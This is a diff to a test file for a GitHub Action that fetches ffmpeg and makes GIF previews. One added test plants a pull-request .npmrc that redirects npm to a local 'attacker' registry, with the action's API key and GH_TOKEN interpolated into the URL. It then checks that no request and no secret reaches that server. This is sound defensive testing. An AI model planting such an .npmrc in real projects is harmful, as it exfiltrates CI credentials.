@@ -10,7 +10,7 @@ import path from 'node:path'
 import { afterEach, describe, expect, it } from 'vitest'
 import { stringify } from 'yaml'
 import type { BatchEntry } from '../src/batch.js'
-import { FFMPEG_PACKAGES } from '../src/ffmpeg.js'
+import { FFMPEG_WASM } from '../src/ffmpeg.js'
 import { cometError, createAccepted, emptyAccepted, xaiDone, xaiFailed } from './emulator/scenarios.ts'
 import {
   loadFixtureVideo,
@@ -1053,8 +1053,8 @@ describe.runIf(FFMPEG_TESTS)('preview through the bundle', () => {
   })
 
   it("'preview: true' without ffmpeg: the pinned one is fetched through npm's registry into the tool cache", async () => {
-    const tarball = await tarballFromNpmCache(FFMPEG_PACKAGES['linux-x64'].integrity)
-    const registry = await startNpmRegistry({ name: '@ffmpeg-installer/linux-x64', version: '4.1.0', tarball })
+    const tarball = await tarballFromNpmCache(FFMPEG_WASM.integrity)
+    const registry = await startNpmRegistry({ name: FFMPEG_WASM.name, version: FFMPEG_WASM.version, tarball })
     cleanup.push(() => registry.close())
     const dirs = await makeRunnerDirs('grok-main-fetch-')
     const run = await runAction({
@@ -1070,7 +1070,64 @@ describe.runIf(FFMPEG_TESTS)('preview through the bundle', () => {
     cleanup.push(() => rm(dirs.root, { recursive: true, force: true }))
     expect(run.exitCode).toBe(0)
     expect(annotations(run, 'warning')).toEqual([])
-    expect(run.stdout).toContain('Fetched @ffmpeg-installer/linux-x64@4.1.0 (SHA-512 verified) into the tool cache')
+    expect(run.stdout).toContain(
+      `Fetched ${FFMPEG_WASM.name}@${FFMPEG_WASM.version} (SHA-512 verified) into the tool cache`,
+    )
     expect(readGif(await readFile(run.outputs['preview-path'])).frames).toBe(10)
+  })
+
+  it("'preview: true': npm runs with no secret and without the workspace's .npmrc; the runner's own npm config still names the registry", async () => {
+    const tarball = await tarballFromNpmCache(FFMPEG_WASM.integrity)
+    const mirror = await startNpmRegistry({ name: FFMPEG_WASM.name, version: FFMPEG_WASM.version, tarball })
+    const attacker = await startNpmRegistry({ name: FFMPEG_WASM.name, version: FFMPEG_WASM.version, tarball })
+    cleanup.push(
+      () => mirror.close(),
+      () => attacker.close(),
+    )
+    const dirs = await makeRunnerDirs('grok-main-npmrc-')
+    cleanup.push(() => rm(dirs.root, { recursive: true, force: true }))
+    const JOB_SECRET = 'ghp_jobLevelSecretOfTheWorkflow0123456789'
+    const run = await runAction({
+      scenario: quick,
+      inputs: { preview: 'true' },
+      prepare: async (runner) => {
+        // The runner's user config (HOME is the run's root), as setup-node's registry-url writes one.
+        await writeFile(path.join(runner.root, '.npmrc'), `registry=${mirror.url}\n`)
+        // Pull-request content.
+        await writeFile(
+          path.join(runner.workspace, '.npmrc'),
+          `registry=${attacker.url}\${INPUT_API-KEY}/\${GH_TOKEN}/\n`,
+        )
+        await writeFile(path.join(runner.workspace, 'package.json'), '{"name":"pr","version":"1.0.0"}\n')
+      },
+      env: {
+        PATH: await toolsOnlyPath(),
+        GH_TOKEN: JOB_SECRET,
+        npm_config_cache: path.join(dirs.root, 'npm-cache'),
+        RUNNER_TOOL_CACHE: path.join(dirs.root, 'tool-cache'),
+      },
+    })
+    expect(run.exitCode).toBe(0)
+    expect(attacker.requests).toEqual([])
+    expect(mirror.requests.filter((request) => request.endsWith('.tgz'))).toHaveLength(1)
+    const seen = JSON.stringify([mirror.requests, mirror.headers])
+    for (const secret of [KEY, JOB_SECRET]) expect(seen).not.toContain(secret)
+    expect(annotations(run, 'warning')).toEqual([])
+    expect(readGif(await readFile(run.outputs['preview-path'])).frames).toBe(10)
+  })
+
+  it("an artifact name with '%' names the poster and the GIF as it is, and 'archive: true' zips them", async () => {
+    const run = await runAction({
+      scenario: quick,
+      inputs: { archive: 'true', 'artifact-name': 'promo-100%' },
+      env: (await withFfmpeg()).env,
+    })
+    expect(run.exitCode).toBe(0)
+    expect(annotations(run, 'warning')).toEqual([])
+    expect(path.basename(run.outputs['poster-path'])).toBe('promo-100%.poster.png')
+    expect(path.basename(run.outputs['preview-path'])).toBe('promo-100%.preview.gif')
+    expect((await stat(run.outputs['poster-path'])).size).toBeGreaterThan(0)
+    const names = [...readZip(run.artifacts[0]?.bytes ?? Buffer.alloc(0)).keys()]
+    expect(names).toEqual(expect.arrayContaining(['promo-100%.poster.png', 'promo-100%.preview.gif']))
   })
 })
